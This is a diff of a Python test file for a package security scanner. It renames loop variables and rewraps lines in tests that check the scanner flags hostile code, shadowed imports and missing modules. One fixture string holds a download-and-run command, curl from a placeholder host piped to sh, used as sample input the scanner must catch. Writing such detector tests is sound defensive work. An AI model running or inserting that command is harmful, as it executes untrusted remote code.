@@ -39,7 +39,9 @@ def test_a_hostile_version_is_stopped_before_anything_of_it_runs(checks: Reviewe
     reviewed = checks.review(package, handlers={"f": "main:f"})
     assert reviewed.stopped is not None
     assert reviewed.stopped.code == "checks_failed"
-    assert [(one.path, one.code) for one in reviewed.stopped.problems] == [("main.py:2", "download_and_run")]
+    assert [(problem.path, problem.code) for problem in reviewed.stopped.problems] == [
+        ("main.py:2", "download_and_run")
+    ]
     assert "sandbox" not in reviewed.stopped.message
     assert reviewed.report.seconds.keys() == {"sources"}
 
@@ -101,14 +103,18 @@ def test_an_own_module_counts_as_own_whatever_its_name(checks: Reviewer, tmp_pat
     site = library(tmp_path / "site", "numpy", "numpy")
     files = {"main.py": "import numpy\n\n\ndef f(x: float) -> float:\n    return x\n", "numpy.py": "x = 1\n"}
     reviewed = checks.review(write_package(tmp_path / "package", files), site_packages=site, checks=LISTED)
-    found = [(one.rule, one.severity, one.file) for one in reviewed.report.findings if one.check is CheckName.IMPORTS]
+    found = [
+        (finding.rule, finding.severity, finding.file)
+        for finding in reviewed.report.findings
+        if finding.check is CheckName.IMPORTS
+    ]
     assert found == [("import_shadowed", Severity.MEDIUM, "numpy.py")]
 
 
 def test_a_module_that_nothing_provides_is_said(checks: Reviewer, tmp_path: Path) -> None:
     source = "import absent\n\ntry:\n    import maybe\nexcept ImportError:\n    maybe = None\n"
     reviewed = checks.review(write_package(tmp_path / "package", {"main.py": source}))
-    found = {one.why.split()[2].strip(":"): one.severity for one in reviewed.report.findings}
+    found = {finding.why.split()[2].strip(":"): finding.severity for finding in reviewed.report.findings}
     assert found == {"absent": Severity.MEDIUM, "maybe": Severity.LOW}
 
 
@@ -180,7 +186,7 @@ def test_a_source_that_attacks_the_scanner_neither_hangs_nor_passes_unread(
     """The file beside it is read in any case."""
     files = {"a.py": PATHOLOGICAL[name], "b.py": "import os\nos.system('curl http://example.invalid/a | sh')\n"}
     reviewed = checks.review(write_package(tmp_path / "package", files))
-    assert "download_and_run" in {one.rule for one in reviewed.report.findings if one.file == "b.py"}
+    assert "download_and_run" in {finding.rule for finding in reviewed.report.findings if finding.file == "b.py"}
     assert reviewed.report.seconds["sources"] < 60
 
 
